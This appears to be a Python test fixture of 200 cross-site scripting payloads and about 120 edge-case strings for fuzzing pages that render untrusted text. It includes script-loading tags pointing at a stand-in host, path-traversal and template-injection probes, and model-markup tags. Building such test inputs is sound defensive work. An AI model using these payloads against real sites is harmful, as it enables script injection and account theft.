"""Texts that break out of pages which trust them: 200 that try to run a script, and 119 that are merely odd."""

from __future__ import annotations

_RUN = "window.pwned=1"
_FETCH = "http://evil.invalid/x"

# {0} is a script, {1} an address that nobody may be asked.
_VECTORS = """
<script>{0}</script>
<script src={1}></script>
<ScRiPt>{0}</sCrIpT>
<script>{0}//
<<script>{0}//<</script>
<img src=x onerror={0}>
<img src={1}>
<img/src=x/onerror={0}>
<image href=x onerror={0}>
<svg onload={0}>
<svg><script>{0}</script></svg>
<svg><animate onbegin={0} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{0}"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{0}</script></svg>#x">
<math><mtext></table><mglyph><style><img src=x onerror={0}>
<body onload={0}>
<iframe src="javascript:{0}"></iframe>
<iframe srcdoc="<script>parent.{0}</script>"></iframe>
<object data="javascript:{0}"></object>
<embed src="javascript:{0}">
<video><source onerror={0}></video>
<audio src=x onerror={0}>
<details open ontoggle={0}>x</details>
<input autofocus onfocus={0}>
<select autofocus onfocus={0}>
<textarea autofocus onfocus={0}>
<marquee onstart={0}>x</marquee>
<a href="javascript:{0}">x</a>
<a href=" &#106;avascript:{0}">x</a>
<form action="javascript:{0}"><button>x</button></form>
<button formaction="javascript:{0}">x</button>
<base href="{1}">
<link rel=stylesheet href={1}>
<link rel=import href={1}>
<meta http-equiv=refresh content="0;url={1}">
<meta http-equiv=refresh content="0;url=javascript:{0}">
<style>@import '{1}';</style>
<style>*{{background:url({1})}}</style>
<div style="background:url({1})">x</div>
<div onmouseover={0} style=position:fixed;inset:0>x</div>
<p/onclick={0}>x
<isindex action=javascript:{0} type=image>
<noscript><p title="</noscript><img src=x onerror={0}>">
<template><script>{0}</script></template>
<xmp><img src=x onerror={0}></xmp>
<!--><img src=x onerror={0}>-->
<![CDATA[><img src=x onerror={0}>]]>
javascript:{0}
data:text/html,<script>{0}</script>
${{{0}}}
""".strip().splitlines()

# Ways out of where a text may stand: an attribute, a script, a block of JSON, a template.
_AROUND = ("{}", "\"'>{}<\"'", "</script></style></title></textarea>{}", '"}}]</script>`);{}//')

SCRIPTS = [around.format(vector.format(_RUN, _FETCH)) for around in _AROUND for vector in _VECTORS]


def _odd() -> list[str]:
    signs = [chr(code) for code in range(0x20)] + ["\x7f", "\x85", "\xa0", "\xad"]
    signs += list("\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e")
    signs += list("\u2060\u2066\u2067\u2068\u2069\u3164\ufeff\ufff9\ufffd\uffff\U000e0041\U0001d173\U0010ffff")
    texts = [f"before{sign}after" for sign in signs]
    texts += [
        "\u202egnirts desrever\u202c",
        "\u2067אבג\u2069 left",
        "a" + "\u0301" * 500,
        "Z\u0351\u036b\u0343alg\u0335o" * 20,
    ]
    texts += [
        "👩‍🚀👨‍👩‍👧‍👦🏳️‍🌈",
        "🇩🇪🇫🇷",
        "ﷺ" * 50,
        "مرحبا بالعالم",
        "日本語のテキスト",
        "क्षत्रिय",
        "\ud83d",
        "\udca9x",
        "x\ud800y\udfffz",
    ]
    texts += ["", " ", "\n\n\n", "\t" * 40, "\r\n" * 5, "word " * 4000, "unbroken" * 3000, "x\n" * 3000]
    texts += [
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "null",
        "undefined",
        "NaN",
        "[object Object]",
        "0",
        "-1",
    ]
    texts += [
        "../../etc/passwd",
        "a/b/c",
        "%2e%2e%2f",
        "%",
        "?x=1#y",
        "#/source/x",
        "\\",
        "'",
        '"',
        "`",
        "&amp;&lt;",
        "\x1b[31mred\x1b[0m",
    ]
    texts += [
        "<solution>",
        "</solution>",
        "<think>",
        "Agent 0 > Agent 1",
        "{{7*7}}",
        "${7*7}",
        "{}",
        "[]",
        "=1+1",
        "@@",
        "e" * 200,
    ]
    return texts


ODD = [*_odd(), "m" * 1_000_000]
assert len(SCRIPTS) == 200
assert len(ODD) >= 100
